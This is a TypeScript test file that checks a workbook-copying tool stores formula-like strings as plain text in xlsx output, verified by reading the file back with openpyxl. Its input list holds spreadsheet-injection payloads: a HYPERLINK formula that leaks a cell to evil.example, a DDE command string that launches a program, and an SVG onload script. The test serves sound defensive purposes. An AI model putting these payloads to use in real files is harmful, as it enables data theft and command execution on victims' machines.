import { writeFileSync } from "node:fs";
import { fileWorkbook } from "../../src/adapters/file/fileWorkbook";
import { newWorkbookFile } from "../../src/adapters/file/workbookFile";
import { writeXlsx } from "../../src/adapters/file/writeXlsx";
import { memoryWorkbook } from "../../src/adapters/memory/memoryWorkbook";
import { copyTables } from "../../src/app/copyTables";
import { openpyxl, testFolder } from "../adapters/file/secondReader";
import { foundTables, valueOf } from "../support/deskInMemory";

/** What looks like a formula is a text to another program as well: its cells hold texts, letter by letter, and no formula. */
const TEXTS = ["=1+1", '=HYPERLINK("https://evil.example/?d="&A1,"click")', "+SUM(A1:A10)", "-2*3", "@SUM(1;2)", "=cmd|' /C calc'!A0", "'=1", "<svg/onload=alert(1)>", "_x0041_", "\uFF1D1", "TRUE", "#N/A?"];

const folder = testFolder();
afterAll(folder.remove);

test("openpyxl finds every text as it was typed, and no formula anywhere", async () => {
  const made = fileWorkbook(newWorkbookFile([]));
  const tables = foundTables({ Items: TEXTS.map((description, at) => ({ itemNo: `T${at}`, description })), Customers: TEXTS.map((name, at) => ({ customerNo: `T${at}`, name })) });
  valueOf(await copyTables(memoryWorkbook(tables), made));
  const path = folder.file("texts.xlsx");
  writeFileSync(path, await writeXlsx(made.current()));
  const found = openpyxl(
    `book = openpyxl.load_workbook(args[0])
cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
answer = {"formulas": [cell.coordinate for cell in cells if cell.data_type == "f"], "texts": [cell.value for cell in cells if cell.data_type in ("s", "inlineStr", "str")]}`,
    path,
  ) as { readonly formulas: readonly string[]; readonly texts: readonly string[] };
  expect(found.formulas).toEqual([]);
  for (const text of TEXTS) expect([text, found.texts.filter((each) => each === text).length]).toEqual([text, 2]);
});
